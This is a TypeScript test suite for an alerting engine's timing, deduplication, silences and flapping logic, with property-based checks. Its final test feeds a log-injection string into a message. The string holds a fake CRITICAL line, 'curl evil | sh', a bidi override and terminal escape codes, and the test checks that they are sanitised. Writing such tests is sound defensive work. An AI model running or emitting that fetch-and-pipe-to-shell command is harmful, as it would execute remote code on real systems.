import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Alert, advance } from '../../src/alerts/alert.ts';
import type { SubjectFacts } from '../../src/alerts/facts.ts';
import { judge } from '../../src/alerts/judge.ts';
import type { Item } from '../../src/alerts/message.ts';
import { repeatAfterMs } from '../../src/alerts/notices.ts';
import type { Silence } from '../../src/alerts/silence.ts';
import { alertsFrom } from '../../src/inventory/assemble-alerts.ts';
import type { AlertPolicy } from '../../src/model/alert-policy.ts';

const minute = 60_000;
const policy = alertsFrom({}) as AlertPolicy;

const host = (name: string, values: SubjectFacts['values'], isSilent = false): SubjectFacts => ({
  ...{ kind: 'host', name, host: null, values, reason: '', isSilent },
});
const account = (name: string, on: string, values: SubjectFacts['values']): SubjectFacts => ({
  ...{ kind: 'account', name, host: on, values, reason: '', isSilent: false },
});
const fleet = (silent: number): SubjectFacts => ({
  ...{
    kind: 'fleet',
    name: 'community',
    host: null,
    values: { 'fleet-silent': silent },
    reason: '',
    isSilent: false,
  },
});

/** A fleet that is swept. */
class Swept {
  alerts: readonly Alert[] = [];
  readonly told: Item[][] = [];
  nowMs = 1_700_000_000_000;
  silences: Silence[] = [];

  sweep(
    subjects: readonly SubjectFacts[],
    afterMs: number,
    used: AlertPolicy = policy,
  ): readonly Item[] {
    this.nowMs += afterMs;
    const { alerts, items } = judge(used, this.alerts, subjects, [], this.silences, this.nowMs);
    this.alerts = JSON.parse(JSON.stringify(alerts)) as readonly Alert[];
    if (items.length > 0) this.told.push([...items]);
    return items;
  }
}

const keys = (items: readonly Item[]): string[] =>
  items.map(({ status, key }) => `${status} ${key}`);

describe('an alert', () => {
  it('fires when it was true for long enough, is told once, and its end after two clean sweeps', () => {
    const swept = new Swept();
    const busy = [host('h1', { 'host-cpu': 75 })];
    const calm = [host('h1', { 'host-cpu': 20 })];
    expect(swept.sweep(busy, 0)).toEqual([]);
    expect(swept.sweep(busy, 5 * minute)).toEqual([]);
    expect(keys(swept.sweep(busy, 5 * minute))).toEqual(['firing host-cpu/h1']);
    expect(swept.sweep(busy, 5 * minute)).toEqual([]);
    expect(swept.sweep(calm, 5 * minute)).toEqual([]);
    expect(keys(swept.sweep(calm, 5 * minute))).toEqual(['over host-cpu/h1']);
    expect(swept.sweep(calm, 5 * minute)).toEqual([]);
  });

  it('is critical above the higher limit, told as worse once, and never as better', () => {
    const swept = new Swept();
    for (const value of [75, 75, 75]) swept.sweep([host('h1', { 'host-cpu': value })], 10 * minute);
    expect(keys(swept.sweep([host('h1', { 'host-cpu': 95 })], 5 * minute))).toEqual([
      'worse host-cpu/h1',
    ]);
    expect(swept.sweep([host('h1', { 'host-cpu': 75 })], 5 * minute)).toEqual([]);
    expect(swept.sweep([host('h1', { 'host-cpu': 95 })], 5 * minute)).toEqual([]);
  });

  it('that nobody can judge stays as it is', () => {
    const swept = new Swept();
    for (let n = 0; n < 3; n += 1) swept.sweep([host('h1', { 'host-disk': 95 })], 5 * minute);
    expect(swept.told).toHaveLength(1);
    for (let n = 0; n < 10; n += 1) expect(swept.sweep([host('h1', {})], 5 * minute)).toEqual([]);
    expect(swept.alerts.find(({ key }) => key === 'host-disk/h1')?.state).toBe('firing');
  });

  it('ends, and is told to have ended, when its host or its rule is no longer there', () => {
    const swept = new Swept();
    swept.sweep([host('h1', { 'host-down': 1 }, true)], 0);
    expect(keys(swept.sweep([], minute))).toEqual(['over host-down/h1']);
    expect(swept.sweep([], minute)).toEqual([]);
    expect(swept.alerts).toEqual([]);
    const other = new Swept();
    other.sweep([host('h1', { 'host-down': 1 }, true)], 0);
    const without = { ...policy, rules: policy.rules.filter(({ name }) => name !== 'host-down') };
    expect(keys(other.sweep([host('h1', { 'host-down': 1 }, true)], minute, without))).toEqual([
      'over host-down/h1',
    ]);
  });

  it('is told again after four hours, eight, sixteen, a day; a critical one every hour', () => {
    const hours = (n: number, severity: 'warning' | 'critical') =>
      repeatAfterMs(4 * 60 * minute, n, severity) / (60 * minute);
    expect([1, 2, 3, 4, 5].map((n) => hours(n, 'warning'))).toEqual([4, 8, 16, 24, 24]);
    expect([1, 2, 9].map((n) => hours(n, 'critical'))).toEqual([1, 1, 1]);
    const swept = new Swept();
    const away = [host('h1', { 'host-down': 1 }, true)];
    for (let n = 0; n <= 24; n += 1) swept.sweep(away, 5 * minute);
    expect(swept.told.flat().map(({ status }) => status)).toEqual(['firing', 'again', 'again']);
  });

  it('of a host that flaps twenty times is two messages at most', () => {
    for (const [up, down, every] of [
      [1, 1, 5],
      [2, 1, 5],
      [2, 2, 5],
      [3, 2, 3],
      [2, 3, 1],
    ] as const) {
      const swept = new Swept();
      for (let flap = 0; flap < 20; flap += 1) {
        for (let n = 0; n < down; n += 1)
          swept.sweep([host('h1', { 'host-down': 1 }, true)], every * minute);
        for (let n = 0; n < up; n += 1)
          swept.sweep([host('h1', { 'host-down': 0 })], every * minute);
      }
      // One that goes on for hours is told again, as any other.
      const once = swept.told.flat().filter(({ status }) => status !== 'again');
      expect(once.length, `${up} up, ${down} down, every ${every} min`).toBeLessThanOrEqual(2);
    }
  });

  it('that has flapped is told when it stays', () => {
    const swept = new Swept();
    const [down, up] = [[host('h1', { 'host-down': 1 }, true)], [host('h1', { 'host-down': 0 })]];
    for (const facts of [down, up, up, down, up, up]) swept.sweep(facts, 5 * minute);
    expect(swept.told).toHaveLength(2);
    for (let n = 0; n < 5; n += 1) swept.sweep(down, 5 * minute);
    expect(keys(swept.told.at(-1) ?? [])).toEqual(['firing host-down/h1']);
    expect(swept.told).toHaveLength(3);
  });
});

describe('the model hides what another message says', () => {
  it('eight of eight silent hosts are one message, and their accounts none', () => {
    const swept = new Swept();
    const names = Array.from({ length: 8 }, (_, n) => `h${n}`);
    const all = (down: number, silent: boolean): SubjectFacts[] => [
      fleet(silent ? 100 : 0),
      ...names.map((name) => host(name, { 'host-down': down }, silent)),
      ...names.map((name) => account(`a-${name}`, name, { 'account-offline': 1 })),
    ];
    swept.sweep(all(0, true), 0);
    for (let n = 0; n < 5; n += 1) swept.sweep(all(1, true), 3 * minute);
    expect(swept.told.map(keys)).toEqual([['firing fleet-silent/community']]);
    swept.sweep(all(0, false).slice(0, 9), minute);
    swept.sweep(all(0, false).slice(0, 9), minute);
    expect(swept.told.slice(1).map(keys)).toEqual([['over fleet-silent/community']]);
  });

  it('what a silent host hides is not repeated either, and goes on when the host is back', () => {
    const swept = new Swept();
    const ended = account('anna', 'h1', { 'account-ended': 1 });
    swept.sweep([fleet(0), host('h1', { 'host-down': 0 }), ended], 0);
    expect(swept.told.map(keys)).toEqual([['firing account-ended/anna']]);
    for (let n = 0; n < 30; n += 1)
      swept.sweep(
        [fleet(0), host('h1', { 'host-down': 1 }, true), account('anna', 'h1', {})],
        10 * minute,
      );
    expect(new Set(swept.told.slice(1).flatMap(keys))).toEqual(
      new Set(['firing host-down/h1', 'again host-down/h1']),
    );
    expect(keys(swept.sweep([fleet(0), host('h1', { 'host-down': 0 }), ended], minute))).toEqual([
      'again account-ended/anna',
    ]);
  });

  it('a silent host hides its accounts; without that rule nothing is hidden from its own alert', () => {
    const swept = new Swept();
    const facts = [
      fleet(100),
      host('h1', { 'host-down': 1 }, true),
      account('anna', 'h1', { 'account-ended': 1 }),
    ];
    const without = {
      ...policy,
      rules: policy.rules.filter(({ measure }) => measure !== 'fleet-silent'),
    };
    expect(keys(swept.sweep(facts, 0, without))).toEqual(['firing host-down/h1']);
  });
});

describe('a silence', () => {
  const silence = (subject: string, until: number, rule = '*'): Silence => ({
    ...{ id: 1, rule, subject, until, reason: '', by: 'me', createdAt: 0 },
  });

  it('holds back, and what still fires afterwards is told then', () => {
    const swept = new Swept();
    const down = [host('h1', { 'host-down': 1 }, true)];
    swept.silences = [silence('h*', swept.nowMs + 30 * minute)];
    for (let n = 0; n < 5; n += 1) expect(swept.sweep(down, 5 * minute)).toEqual([]);
    expect(keys(swept.sweep(down, 5 * minute))).toEqual(['firing host-down/h1']);
  });

  it('covers the accounts of its host, and tells the end of what was told before when it is over', () => {
    const swept = new Swept();
    const bad = [host('h1', {}), account('anna', 'h1', { 'account-ended': 1 })];
    const good = [host('h1', {}), account('anna', 'h1', { 'account-ended': 0 })];
    swept.sweep(bad, 0);
    swept.silences = [silence('h1', swept.nowMs + 30 * minute)];
    for (let n = 0; n < 4; n += 1) expect(swept.sweep(good, 5 * minute)).toEqual([]);
    swept.silences = [];
    expect(keys(swept.sweep(good, 5 * minute))).toEqual(['over account-ended/anna']);
  });
});

describe('whatever happens', () => {
  const step = fc.record({
    down: fc.constantFrom(0, 1, null),
    cpu: fc.constantFrom(10, 75, 95, null),
    afterMs: fc.oneof(
      fc.integer({ min: 0, max: 20 * minute }),
      fc.constantFrom(-60 * minute, 0, 48 * 60 * minute),
    ),
  });

  it('ends are told only of what was told, never twice in a row, and the end comes', () => {
    fc.assert(
      fc.property(fc.array(step, { maxLength: 60 }), (steps) => {
        const swept = new Swept();
        const open = new Set<string>();
        const look = (items: readonly Item[]): void => {
          for (const { status, key } of items) {
            if (status === 'firing')
              expect(open.has(key), `${key} told as new although it was open`).toBe(false);
            if (status !== 'firing')
              expect(open.has(key), `${status} ${key} of what nobody was told`).toBe(true);
            if (status === 'over') open.delete(key);
            else open.add(key);
          }
        };
        for (const { down, cpu, afterMs } of steps)
          look(
            swept.sweep(
              [
                host('h1', {
                  ...(down === null ? {} : { 'host-down': down }),
                  ...(cpu === null ? {} : { 'host-cpu': cpu }),
                }),
              ],
              afterMs,
            ),
          );
        for (let n = 0; n < 3; n += 1)
          look(swept.sweep([host('h1', { 'host-down': 0, 'host-cpu': 5 })], 5 * minute));
        expect([...open]).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('nothing fires before it was seen for as long as its rule says, by clocks that jump too', () => {
    const rule = policy.rules.find(({ name }) => name === 'host-cpu');
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: -30 * minute, max: 30 * minute }), {
          minLength: 1,
          maxLength: 20,
        }),
        (gaps) => {
          let [alert, nowMs, seenMs]: [Alert | null, number, number] = [null, 1_700_000_000_000, 0];
          for (const [index, gap] of gaps.entries()) {
            nowMs += gap;
            if (index > 0) seenMs += Math.max(0, gap);
            const about = {
              key: 'host-cpu/h1',
              rule: 'host-cpu',
              subject: 'h1',
              host: null,
              reason: '',
            };
            const reading = {
              ...about,
              measure: 'host-cpu',
              kind: 'host',
              severity: 'warning',
              value: 80,
            } as const;
            alert = advance(alert, reading, rule, nowMs, false);
            if (seenMs < (rule?.forMs ?? 0)) expect(alert?.state).toBe('pending');
          }
        },
      ),
    );
  });
});

it('a worker’s own words begin no line of a message and turn none around', () => {
  const said = 'offline\nCRITICAL all is lost\n  run: curl evil | sh \u202e\u001b[2J\u0085';
  const swept = new Swept();
  const facts = { ...account('anna', 'h1', { 'account-ended': 1 }), reason: said };
  swept.sweep([facts], 0);
  const [item] = swept.told.flat();
  expect(item?.text).toContain('all is lost');
  expect(item?.text).toMatch(/^[\P{C}]+$/u);
});
